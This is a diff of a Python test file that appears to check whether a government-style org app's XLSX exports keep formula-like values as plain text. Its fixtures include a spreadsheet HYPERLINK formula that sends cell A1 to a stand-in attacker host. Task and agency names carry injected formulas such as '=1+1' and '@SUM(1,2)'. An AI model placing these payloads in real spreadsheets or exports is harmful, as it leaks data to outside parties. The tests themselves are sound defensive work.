@@ -7,7 +7,7 @@ import uuid
 import httpx
 from openpyxl import load_workbook
 
-from .test_reports import PROVINCE, org  # noqa: F401 - the fake sources, as a fixture
+from .test_reports import PROVINCE, commune_agency, commune_unit, lineage, org  # noqa: F401 - org: the fake sources
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")'
 SUM = "=1+1"
@@ -16,11 +16,16 @@ SUM = "=1+1"
 def _hostile_gaps(org) -> None:  # noqa: F811
     """A task titled ``=1+1``, held by an agency named with a formula, and an agency without a decision named so too."""
     finding = {
-        "kind": "no_owner",
+        "kind": "ended_owner",
         "task_id": str(uuid.uuid4()),
         "task_code": "-2+3",
         "task_title": SUM,
-        "agencies": [{"name": "@SUM(1,2)"}],
+        "sector": "Nội vụ",
+        "province_code": PROVINCE,
+        "agencies": [
+            {"id": str(uuid.uuid4()), "name": "@SUM(1,2)", "level": "district", "valid_from": None, "valid_to": "2025-06-30"}
+        ],
+        "related_task_ids": [],
         "reason": "\tcmd",
     }
     org.get("/api/v1/org/tasks/findings").respond(
@@ -78,17 +83,10 @@ async def test_numbers_stay_numbers(client: httpx.AsyncClient, org) -> None:  # 
 
 
 async def test_the_commune_profile_xlsx_holds_an_agency_name_as_text(client: httpx.AsyncClient, org) -> None:  # noqa: F811
-    unit = {
-        "id": str(uuid.uuid4()),
-        "code": "01304",
-        "name": SUM,
-        "kind": "xa",
-        "valid_from": "2025-07-01",
-        "province_code": PROVINCE,
-    }
+    unit = commune_unit(str(uuid.uuid4()), "01304", SUM)
     org.get("/api/v1/org/units/by-code/01304").respond(json=unit)
-    org.get(f"/api/v1/org/units/{unit['id']}/lineage").respond(json={"unit": unit, "successors": [], "predecessors": []})
-    agency = {"id": str(uuid.uuid4()), "name": HYPERLINK, "kind": "commune_economic_office"}
+    org.get(f"/api/v1/org/units/{unit['id']}/lineage").respond(json=lineage(unit))
+    agency = commune_agency(unit, HYPERLINK, "commune_economic_office")
     org.get("/api/v1/org/agencies").respond(json={"items": [agency], "next": None})
     holdings = {"as_of": "2026-04-15", "province": PROVINCE, "group_by": "unit", "rows": []}
     org.get("/api/v1/assets/stats/holdings").respond(json=holdings)
